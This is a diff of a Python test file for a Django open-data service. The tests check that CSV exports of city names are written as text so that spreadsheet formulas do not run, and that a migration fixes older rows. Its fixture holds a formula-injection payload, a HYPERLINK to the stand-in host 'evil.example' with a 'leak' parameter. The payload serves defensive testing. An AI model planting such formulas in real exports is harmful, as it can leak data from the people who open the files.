@@ -7,12 +7,15 @@ the same through the page and the API, and opened in a Korean locale reads Korea
 from __future__ import annotations
 
 import csv
+import importlib
 import io
 import json
 from pathlib import Path
 from typing import Any
 
+import polars as pl
 import pytest
+from django.apps import apps
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
 from openpyxl import load_workbook
@@ -20,6 +23,7 @@ from openpyxl import load_workbook
 from citycert.assessments.workflow import ResponseInput, save_response
 from citycert.certification import workflow
 from citycert.certification.choices import Outcome
+from citycert.certification.models import PublishedRows
 from citycert.cities.models import City
 from citycert.indicators.alerts import commit_and_alert
 from citycert.indicators.importing import plan_import
@@ -32,6 +36,7 @@ from tests.reports.libreoffice import cells, opened_in_calc
 FORMULA = '=HYPERLINK("http://evil.example/?leak=1","근거 자료")'
 PHONE = "+82 2 2155 6114"
 BYTE_ORDER_MARK = b"\xef\xbb\xbf"
+upgrade = importlib.import_module("citycert.certification.migrations.0005_published_rows_keep_text_as_text")
 
 
 def streamed(answer: Any) -> bytes:
@@ -191,3 +196,19 @@ def test_the_open_data_csv_reads_korean_and_holds_names_as_text(
     # JSON lines hold the name as it is: only a spreadsheet needs it written as text.
     lines = streamed(client.get(f"/open-data/{dataset}.json")).decode().splitlines()
     assert {json.loads(line)["city_en"] for line in lines} == {FORMULA}
+    parquet = pl.read_parquet(io.BytesIO(streamed(client.get(f"/open-data/{dataset}.parquet"))))
+    assert set(parquet["city_en"].to_list()) == {FORMULA}
+
+
+def test_rows_decided_before_the_upgrade_are_written_as_text_too(client: Client, people: People) -> None:
+    decided_with_a_formula_name(people)
+    written_at_decision = streamed(client.get("/open-data/results.csv"))
+    # As a decision wrote them before text was kept as text: the name as typed.
+    for rows in PublishedRows.objects.all():
+        rows.csv = rows.csv.replace("\"'=HYPERLINK", '"=HYPERLINK')
+        rows.save()
+    assert "'=HYPERLINK" not in streamed(client.get("/open-data/results.csv")).decode("utf-8-sig")
+
+    upgrade.write_text_as_text(apps, None)
+
+    assert streamed(client.get("/open-data/results.csv")) == written_at_decision
